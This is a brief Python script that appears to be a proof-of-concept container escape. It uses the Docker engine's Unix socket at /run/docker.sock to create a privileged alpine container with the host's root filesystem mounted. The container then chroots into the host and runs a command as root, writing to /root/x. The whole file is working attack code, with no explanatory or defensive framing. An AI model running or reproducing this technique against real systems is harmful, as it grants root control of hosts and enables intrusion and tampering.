# class: the host through the engine's socket
import http.client, json, socket
class U(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX); self.sock.connect("/run/docker.sock")
c = U("localhost")
body = json.dumps({"Image": "alpine", "Cmd": ["chroot", "/h", "sh", "-c", "id > /root/x"],
                   "HostConfig": {"Binds": ["/:/h"], "Privileged": True}})
c.request("POST", "/containers/create", body, {"Content-Type": "application/json"})
print(c.getresponse().read())
